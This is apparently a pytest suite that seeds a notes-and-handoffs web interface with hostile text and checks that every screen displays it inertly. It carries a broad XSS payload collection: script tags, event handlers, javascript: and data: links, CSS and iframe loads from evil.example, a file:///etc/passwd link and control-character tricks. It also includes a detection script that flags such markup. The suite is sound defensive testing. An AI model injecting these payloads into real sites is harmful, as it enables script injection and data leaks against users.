"""Texts that want to be more than text, in every place where somebody can write one: nothing runs, nothing is fetched."""

import json
import uuid
from urllib.parse import quote

import pytest

from ai_memory.memory.intake import Delivery
from ai_memory.memory.packets import Push
from ai_memory.memory.pages import Fields, Writer
from ai_memory.model.packet import VERSIONS
from tests.own_server import served

RUN = "window.hacked=1"
#: For places that hold a line.
LINE = f"\"'><script>{RUN}</script><img src=//evil.example/i onerror={RUN}><svg onload={RUN}>\u202eevil\u2066\x1b[31m{{{{7*7}}}}"
PACKET = "01890a5d-ac96-774b-bcce-b302099a8059"
EVIL = Writer(f"codex<script>{RUN}</script>", f"Eve<img src=x onerror={RUN}>")
SHOP = "/web/w/default/shop"
BODIES = {
    "script": f"<script>{RUN}</script>\n\n<script src=//evil.example/s></script>\n\n<ScRiPt\n>{RUN}</sCrIpT >",
    "svg": f"<svg onload={RUN}><script>{RUN}</script><use href=data:image/svg+xml,x#y /></svg>\n\n<math><mtext><img src=x onerror={RUN}>",
    "handlers": f"<img src=x onerror={RUN}> <b onmouseover={RUN} style='background:url(//evil.example/b)'>b</b> <details open ontoggle={RUN}>",
    "addresses": "\n\n".join(
        [
            *(
                f"[click]({scheme}{RUN}) [click](<{scheme} {RUN}>) [[{scheme}{RUN}|click]] <{scheme}{RUN}>"
                for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "vbscript:")
            ),
            f"[click](data:text/html;base64,PHNjcmlwdD4=) ![i](data:image/svg+xml,<svg/onload={RUN}>)",
            f"![remote](https://evil.example/i.png) ![named][r] [ref][r]\n\n[r]: javascript:{RUN} \"x' onmouseover='{RUN}\"",
            "[beside](//evil.example/x) [file](file:///etc/passwd) [blob](blob:x) http://evil.example/<script>",
        ]
    ),
    "style": "<style>@import '//evil.example/c'; body { display: none }</style>\n\n<link rel=stylesheet href=//evil.example/c>\n\n"
    "<p style='position:fixed;inset:0;background:url(//evil.example/p)'>over everything</p>",
    "frames": f"<base href=//evil.example/>\n\n<meta http-equiv=refresh content='0;url=//evil.example/'>\n\n<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>\n\n"
    f"<object data=//evil.example/o></object>\n\n<embed src=//evil.example/e>\n\n<form action=//evil.example/f><button>Send</button></form>",
    "fences": f"```html onload={RUN}\n</code></pre><script>{RUN}</script>\n```\n\n`</code><script>{RUN}</script>`\n\n"
    f"| <script>{RUN}</script> | b |\n| --- | --- |\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n\n"
    f"## </h2><script>{RUN}</script>\n\n[^x]: <img src=x onerror={RUN}>\n\nNote[^x]",
    "clobbered": "## main\n\n## find\n\n## changed\n\n<a id=main name=body>x</a> <img name=body> <form id=search><input name=action></form>",
    "signs": "\u202eturned\u202c \u2066apart\u2069 \x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x00 \ufdd0 \ufffe",
}
ELEMENTS = {
    *"p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s del a bdi span div sup section table".split(),
    *"thead tbody tr th td input details summary dl dt dd time".split(),
}
#: What there is on a page that should not be, in its texts and around them.
LOOK = """() => {
  const bad = [];
  for (const each of document.querySelectorAll("*")) {
    for (const { name, value } of each.attributes) {
      if (name.startsWith("on") || name === "style" || name === "srcdoc") bad.push(`${each.localName} ${name}`);
      if (["href", "src", "action", "data"].includes(name) && /^\\s*(javascript|vbscript|data|blob|file):/i.test(value)) bad.push(value);
    }
    const source = each.getAttribute("src") ?? (each.localName === "link" ? each.href : "");
    if (source && new URL(source, location.href).origin !== location.origin) bad.push(source);
  }
  if (document.querySelector("iframe, object, embed, base, style, form[action*='evil']")) bad.push("frame");
  const inside = [...document.querySelectorAll(".prose *")].map((each) => each.localName);
  return { bad, inside: [...new Set(inside)], hacked: window.hacked };
}"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A server with a project of which everything is hostile."""
    with served(tmp_path_factory) as own:
        memory, session = own.memory, uuid.uuid4()
        works(memory, session)
        project = memory.projects.named("default", "shop")
        for name, body in BODIES.items():
            path = f"notes/{name} ' onerror={RUN} &lt;b&gt;;%3Cscript%3E.md"
            memory.pages.write(project, path, body, Fields(title=f"{name} {LINE}", tags=[LINE], kind=LINE), EVIL)
        memory.pages.write(project, "narrative.md", "\n\n".join(BODIES.values()), Fields(title=LINE, pinned=True), EVIL)
        memory.pages.write(project, "notes/twice.md", f"{LINE}\n", Fields(title=LINE), EVIL)
        memory.pages.write(project, "notes/twice.md", BODIES["frames"], Fields(title=LINE), EVIL)
        by_hand = {
            # 5 MB of everything.
            "notes/large.md": "\n\n".join(BODIES.values()) * 2_100,
            "notes/front.md": f"---\ntitle: {json.dumps(LINE)}\n{json.dumps(LINE)}: [{json.dumps(LINE)}]\n---\n{LINE}",
            f"notes/<img src=x onerror={RUN}>.md": LINE,
        }
        assert len(by_hand["notes/large.md"]) > 5_000_000
        for path, text in by_hand.items():
            file = memory.stores.wiki.folder(project) / path
            file.write_text(text, "utf-8", errors="replace")
            memory.outside.changed([file])
        memory.packets.push([Push("owner", json.dumps(packet()).encode())])
        memory.packets.settle()
        said = {"next_steps": [LINE], "open_questions": [LINE], "files_touched": [LINE], "from_agent": LINE}
        memory.handoffs.begin(project, summary=LINE, to_agent=LINE, cwd=LINE, packet_id=PACKET, **said)
        memory.sessions.settle()
        own.project, own.session = project, session
        yield own


def packet():
    return {
        "ltm_version": VERSIONS[-1],
        "id": PACKET,
        "created_at": "2026-11-01T10:00:00Z",
        "goal": LINE,
        "next_step": f"</textarea></pre>{LINE}",
        "project": {"name": "shop"},
        "decisions": [{"what": LINE, "why": LINE, "locked": True}],
        "attempts": [{"tried": LINE, "outcome": "failed", "learned": LINE}],
        "open_questions": [LINE],
    }


def works(memory, session):
    said = {"agent": "claude-code", "cwd": f"/srv/shop/{LINE}", "repo_root": "/srv/shop"}
    steps = [
        ("session-start", {"source": LINE}),
        ("user-prompt", {"prompt": LINE}),
        ("post-tool-use", {"tool_name": LINE, "tool_input": {"file_path": f"/srv/shop/{LINE}"}}),
        (
            "post-tool-use",
            {"tool_name": "Bash", "tool_input": {"command": LINE}, "error": f"Exit code 1\n</pre>{LINE}"},
        ),
        ("notification", {"message": LINE}),
        ("stop", {"last_assistant_message": "\n\n".join(BODIES.values())}),
    ]
    for event, body in steps:
        query = {**said, "event": event, "ingest_key": uuid.uuid4().hex}
        memory.intake.record([Delivery(query, json.dumps({"session_id": str(session), **body}).encode())])


@pytest.fixture
def guard(desk_at, hostile):
    """Open a hostile screen; gives what is wrong with it, besides what a `Desk` refuses anyway."""
    desk = desk_at(hostile.url)
    dialogs = []
    desk.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def look(path):
        page = desk.opens(path)
        found = page.evaluate(LOOK)
        found["outside"] = sorted(set(found["inside"]) - ELEMENTS)
        found["left"] = page.url != desk.url + path
        return {key: found[key] for key in ("bad", "outside", "hacked", "left") if found[key]}

    look.desk = desk
    yield look
    assert (dialogs, [url for url in desk.asked if not url.startswith(f"{desk.url}/")]) == ([], [])


def test_a_hostile_page_is_shown_as_it_is_written_and_does_nothing(guard, hostile):
    at = f"{SHOP}/p/"
    rows = hostile.memory.stores.pages.pages(hostile.project.id)
    # No door opens what no other system could name; the next test shows that it is told.
    paths = [at + quote(row.path) for row in rows if not row.path.startswith("notes/<")]
    assert len(paths) >= len(BODIES) + 5
    wrong = {path: found for path in paths if (found := guard(path))}
    assert wrong == {}
    page = guard.desk.opens(next(path for path in paths if path.startswith(f"{at}notes/script")))
    assert f"<script>{RUN}</script>" in page.locator("article").inner_text()
    # 5 MB are not laid out, and the page says so.
    page = guard.desk.opens(f"{at}notes/large.md")
    assert page.get_by_text("The page is too long to be shown whole").count() == 1


def test_hostile_texts_do_nothing_on_any_other_screen(guard, hostile):
    packets = hostile.memory.packets.get("owner", PACKET).project
    screens = [
        "/web",
        "/web/w/default",
        SHOP,
        f"{SHOP}/pages",
        f"{SHOP}/pages?folder=notes",
        f"{SHOP}/pages?name={quote(LINE)}",
        f"{SHOP}/sessions",
        f"{SHOP}/s/{hostile.session}",
        f"{SHOP}/handoffs",
        f"/web/w/{packets}/packets",
        f"/web/w/{packets}/packet/{PACKET}",
        "/web/timeline",
        "/web/timeline?kind=session&kind=note",
        "/web/search?q=hacked",
        f"/web/search?q={quote(LINE)}&tag={quote(LINE)}&kind={quote(LINE)}",
        "/web/graph",
        "/web/status",
    ]
    diff = "/web/w/default/shop/diff/notes/twice.md"
    versions = hostile.memory.pages.history(hostile.project, "notes/twice.md")
    screens.append(f"{diff}?old={versions[-1].revision}&new={versions[0].revision}")
    assert {path: found for path in screens if (found := guard(path))} == {}


def test_what_cannot_be_shown_is_named_and_does_nothing(guard):
    page, name = guard.desk.page, quote(LINE, safe="")
    illegal = quote(f"notes/<img src=x onerror={RUN}>.md")
    refused = {f"{SHOP}/p/{illegal}": 422, f"{SHOP}/p/{name}": 422, f"/web/{name}": 404, f"/web/w/{name}": 404}
    for path, status in refused.items():
        assert page.goto(guard.desk.url + path).status == status, path
        found = page.evaluate(LOOK)
        assert (found["bad"], found.get("hacked")) == ([], None), path
        assert page.get_by_role("alert").count() == 1
    # The console says of the pages themselves that they were refused.
    assert all("the server responded with a status of 4" in each for each in guard.desk.said)
    guard.desk.said.clear()


def test_what_the_graph_and_the_search_make_of_hostile_texts_is_text(guard):
    page = guard.desk.opens("/web/graph")
    page.locator("canvas[data-settled]").wait_for()
    page.locator("#seek").fill("svg")
    page.keyboard.press("ArrowDown")
    assert f"<script>{RUN}</script>" in page.locator(".tip").inner_text()
    assert page.locator(".tip *, .list script, .list img").count() == 0
    page.keyboard.press("Enter")
    page.wait_for_url("**/p/**")
    assert guard(page.url.removeprefix(guard.desk.url)) == {}
    page = guard.desk.opens("/web/search")
    page.locator("#q").fill(f"{LINE} hacked")
    page.locator("#results .hits a").first.wait_for()
    assert page.evaluate(LOOK)["bad"] == []
    page.locator("#results .hits h2 a").first.click()
    page.wait_for_url("**/w/**")


def test_the_text_itself_is_given_as_text(hostile, desk_at):
    desk = desk_at(hostile.url)
    path = next(row.path for row in hostile.memory.stores.pages.pages(hostile.project.id) if "script" in row.path)
    page = desk.opens(f"{SHOP}/raw/{quote(path)}")
    assert page.locator("script").count() == 0
    assert f"<script>{RUN}</script>" in page.locator("body").inner_text()
